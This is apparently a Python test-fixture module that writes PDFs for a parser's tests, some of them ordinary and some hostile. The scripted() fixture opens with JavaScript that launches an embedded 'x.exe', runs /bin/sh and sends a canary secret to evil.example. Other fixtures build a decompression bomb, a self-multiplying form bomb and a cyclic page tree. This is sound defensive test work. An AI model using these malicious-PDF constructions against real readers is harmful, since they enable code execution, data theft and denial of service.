"""PDF files for tests: ordinary ones, and hostile ones written by hand."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Sequence
from typing import Any

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

CANARY = "canary-of-a-secret"


def pdf(
    pages: int = 1,
    *,
    size: tuple[float, float] = (595, 842),
    draw: Callable[[Any], None] | None = None,
    password: str | None = None,
) -> bytes:
    """Return a PDF whose pages are numbered. ``password``: an empty one still encrypts."""
    out = io.BytesIO()
    locked = None if password is None else StandardEncryption(password, ownerPassword="owner")
    sheet = canvas.Canvas(out, pagesize=size, encrypt=locked)
    sheet.setAuthor(CANARY)
    for number in range(pages):
        sheet.drawString(72, 720, f"page {number + 1}")
        if draw is not None:
            draw(sheet)
        sheet.showPage()
    sheet.save()
    return out.getvalue()


def written(objects: Sequence[bytes]) -> bytes:
    """Return a PDF of these objects, the first of them the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    begins = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, begins)
    return bytes(out)


def stream(head: bytes, body: bytes) -> bytes:
    """Return the body of an object that carries bytes."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(body), body)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def scripted() -> bytes:
    """Return a PDF that wants to run scripts, start a program, send itself away, and carries a file."""
    secret = CANARY.encode()
    return written([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >> >>",
        PAGES,
        PAGE % b"/AA << /O 5 0 R >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 5 0 R >>]",
        b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: '%s', nLaunch: 2}\\)) >>" % secret,
        b"<< /S /Launch /F (/bin/sh) /Next << /S /URI /URI (https://evil.example/%s) >> >>" % secret,
        b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
        stream(b"/Type /EmbeddedFile", b"MZ" + secret),
    ])  # fmt: skip


def filled(megabytes: int) -> bytes:
    """Return a small PDF whose page is ``megabytes`` of spaces when it is unpacked."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"")
    one = packer.compress(b" " * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = head + one[:2] + one[2:] * megabytes + b"\x03\x00"
    content = stream(b"/Filter /FlateDecode", packed)
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE % b"/Contents 4 0 R", content])


def laughing(depth: int) -> bytes:
    """Return a small PDF whose page draws itself ten times, ``depth`` times over."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
    named = b"/Resources << /XObject << /F %d 0 R >> >>"
    forms = [stream(form + named % (6 + place), b"/F Do " * 10) for place in range(depth)]
    page = PAGE % (b"/Contents 4 0 R " + named % 5)
    return written([
        b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, stream(b"", b"/F Do"), *forms,
        stream(form, b"0 0 10 10 re f"),
    ])  # fmt: skip


def endless() -> bytes:
    """Return a PDF whose tree of pages is a circle."""
    return written([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
    ])  # fmt: skip
